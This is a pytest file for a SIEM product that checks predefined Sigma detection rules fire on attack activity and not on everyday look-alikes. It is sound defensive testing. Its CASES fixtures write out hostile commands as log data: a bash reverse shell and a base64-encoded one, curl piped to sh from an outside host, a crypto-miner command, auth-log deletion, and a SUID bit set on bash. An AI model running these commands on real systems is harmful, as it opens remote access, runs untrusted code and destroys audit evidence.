"""Every predefined Sigma rule fires on the activity it describes and stays
quiet on the look-alike an operator does every day.

Logs go in through ``ingest_logs`` and the rules run through
``run_detection``, as in production; a rule "fires" when an alert carrying
its title was stored.
"""

from datetime import UTC, datetime, timedelta
from itertools import count

import pytest
from django.utils import timezone

from alerts.detection_rules import predefined_rule_files, sync_predefined_rules
from alerts.detection_run import run_detection
from alerts.models import Alert, AlertSource, Entity, EntityType
from alerts.services import ingest_logs
from alerts.sigma.compiler import compile_rule
from tests.conftest import organisation_scope

pytestmark = pytest.mark.usefixtures("fast_password_hashing")

HOST = "host-web-01"
START = datetime(2026, 11, 23, 12, 0, tzinfo=UTC)
_sequence = count()


def at(seconds: float) -> str:
    return (START + timedelta(seconds=seconds)).isoformat()


def process(cmdline, path=None, *, user="root", parent="/bin/bash", seconds=0, **fields):
    return {
        "type": "process",
        "time": at(seconds),
        "pid": 4000 + next(_sequence),
        "ppid": 1200,
        "path": path or cmdline.split()[0],
        "cmdline": cmdline,
        "user": user,
        "parent_path": parent,
        **fields,
    }


def network(dst_ip, dst_port, *, image="/usr/bin/curl", direction="out", seconds=0):
    return {
        "type": "network",
        "time": at(seconds),
        "pid": 4000 + next(_sequence),
        "process_path": image,
        "src_ip": "10.0.0.10",
        "src_port": 40000 + next(_sequence) % 20000,
        "dst_ip": dst_ip,
        "dst_port": dst_port,
        "protocol": "tcp",
        "direction": direction,
    }


def file_event(path, operation="create", *, image="/usr/bin/vim", seconds=0):
    return {
        "type": "file",
        "time": at(seconds),
        "path": path,
        "operation": operation,
        "process_path": image,
        "pid": 4000 + next(_sequence),
    }


def dns(domain, *, seconds=0):
    return {"type": "dns", "time": at(seconds), "domain": domain, "answer": "198.51.100.80"}


def login(result, *, src_ip="203.0.113.50", user="root", seconds=0, count=1, method="ssh"):
    return {
        "type": "login",
        "time": at(seconds),
        "user": user,
        "src_ip": src_ip,
        "src_port": 50000 + next(_sequence) % 10000,
        "result": result,
        "method": method,
        "count": count,
    }


def failures(n, *, src_ip="203.0.113.50", seconds=0, step=5):
    return [login("failure", src_ip=src_ip, seconds=seconds + i * step) for i in range(n)]


def discovery(*images, user="www-data", step=10):
    return [
        process(
            f"{image} -a" if image.endswith("uname") else image,
            image,
            user=user,
            parent="/bin/sh",
            seconds=i * step,
        )
        for i, image in enumerate(images)
    ]


# key of the rule -> (logs on which it fires, logs on which it must not)
CASES = {
    "reverse-shell-command": (
        [process("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "/bin/bash")],
        [process("nc -zv 10.0.0.5 5432", "/usr/bin/nc")],
    ),
    "shell-with-network-connection": (
        [network("203.0.113.7", 4444, image="/bin/bash")],
        [network("127.0.0.1", 5432, image="/bin/bash")],
    ),
    "web-server-spawns-shell": (
        [
            process(
                "/bin/sh -c id", "/bin/sh", user="tomcat", parent="/usr/lib/jvm/java-17/bin/java"
            )
        ],
        [process("/bin/sh -c /opt/backup.sh", "/bin/sh", parent="/usr/sbin/cron")],
    ),
    "base64-decoded-execution": (
        [process("sh -c echo YmFzaCAtaSA+JiAvZGV2L3RjcC8x | base64 -d | bash", "/bin/sh")],
        [process("base64 -d /tmp/cert.b64 -o /tmp/cert.pem", "/usr/bin/base64")],
    ),
    "download-and-execute": (
        [process("sh -c curl -fsSL http://203.0.113.7/x.sh | sh", "/bin/sh")],
        [process("curl -fsSL https://example.com/health -o /dev/null", "/usr/bin/curl")],
    ),
    "cron-persistence": (
        [file_event("/var/spool/cron/crontabs/root", "write", image="/usr/bin/crontab")],
        [file_event("/etc/cron.d/logrotate", "create", image="/usr/bin/dpkg")],
    ),
    "systemd-persistence": (
        [file_event("/etc/systemd/system/kworkerd.service", "create", image="/bin/bash")],
        [file_event("/etc/systemd/system/nginx.service", "create", image="/usr/bin/dpkg")],
    ),
    "suid-bit-set": (
        [process("chmod u+s /tmp/.x/bash", "/usr/bin/chmod")],
        [process("chmod g+s /srv/shared", "/usr/bin/chmod")],
    ),
    "ssh-brute-force": (
        failures(12),
        failures(5) + failures(5, src_ip="203.0.113.51"),
    ),
    "login-after-brute-force": (
        [*failures(12), login("success", seconds=120)],
        [*failures(4), login("success", seconds=120)],
    ),
    "miner-process": (
        [
            process(
                "/tmp/.cache/kswapd0 -o stratum+tcp://pool.minexmr.com:4444 -u 4AdU",
                "/tmp/.cache/kswapd0",
            )
        ],
        [process("/usr/bin/python3 -m pip install stratum-docs", "/usr/bin/python3")],
    ),
    "mining-pool-lookup": (
        [dns("pool.supportxmr.com")],
        [dns("mirrors.aliyun.com")],
    ),
    "mining-pool-connection": (
        [network("198.51.100.80", 14444, image="/tmp/.cache/kswapd0")],
        [network("10.0.0.20", 3333, image="/usr/bin/node")],
    ),
    "web-user-discovery-burst": (
        discovery("/usr/bin/whoami", "/usr/bin/id", "/usr/bin/uname"),
        # The same commands by an administrator, and a web account's spread over minutes.
        discovery("/usr/bin/whoami", "/usr/bin/id", "/usr/bin/uname", user="root")
        + discovery("/usr/bin/whoami", "/usr/bin/id", "/usr/bin/uname", step=90),
    ),
    "log-tampering": (
        [process("rm -f /var/log/auth.log /var/log/wtmp", "/usr/bin/rm")],
        [process("rm -rf /tmp/build-cache", "/usr/bin/rm")],
    ),
    "log-file-deleted": (
        [file_event("/var/log/auth.log", "delete", image="/usr/bin/rm")],
        [file_event("/var/log/auth.log.2.gz", "delete", image="/usr/sbin/logrotate")],
    ),
    "connection-to-bad-ip": (
        [network("203.0.113.99", 443)],
        [network("198.51.100.1", 443)],
    ),
}


def test_it_covers_every_predefined_rule():
    assert set(CASES) == set(predefined_rule_files())
    assert len(CASES) >= 12


@pytest.mark.parametrize("key", sorted(predefined_rule_files()))
def test_it_ships_rules_that_compile_with_an_alert_type(key):
    rule = compile_rule(predefined_rule_files()[key])

    assert rule.title and rule.description and rule.alert_type
    assert rule.level in {"low", "medium", "high"}
    assert rule.technique.startswith("T")


@pytest.fixture
def detect(tenancy):
    """Ingest logs of one host of account A and run the predefined rules; returns
    the names of the SIEM alerts raised."""
    sync_predefined_rules()
    # An attacker IP another product reported, for the list of bad IPs.
    Entity.objects.create(
        account=tenancy.account_a,
        type=EntityType.IP,
        value="203.0.113.99",
        digest=Entity.digest_for(EntityType.IP, "203.0.113.99"),
        malicious=True,
        first_seen_at=START,
        last_seen_at=START,
    )

    def run(logs):
        items = [{"account": tenancy.account_a.uid, "host_uuid": HOST, **log} for log in logs]
        result = ingest_logs(items, scope=organisation_scope(tenancy.org))
        assert not result.errors, result.errors
        report = run_detection(
            now=timezone.now(),
            lag=timedelta(0),
            organisation_ids=[tenancy.org.id],
        )
        assert not report.errors, report.errors
        return set(Alert.objects.filter(source=AlertSource.SIEM).values_list("name", flat=True))

    return run


def title_of(key: str) -> str:
    return compile_rule(predefined_rule_files()[key]).title


@pytest.mark.parametrize("key", sorted(CASES))
def test_it_fires_on_the_activity_it_describes(detect, key):
    fires, _ = CASES[key]

    assert title_of(key) in detect(fires)


@pytest.mark.parametrize("key", sorted(CASES))
def test_it_stays_quiet_on_everyday_look_alikes(detect, key):
    _, quiet = CASES[key]

    assert title_of(key) not in detect(quiet)
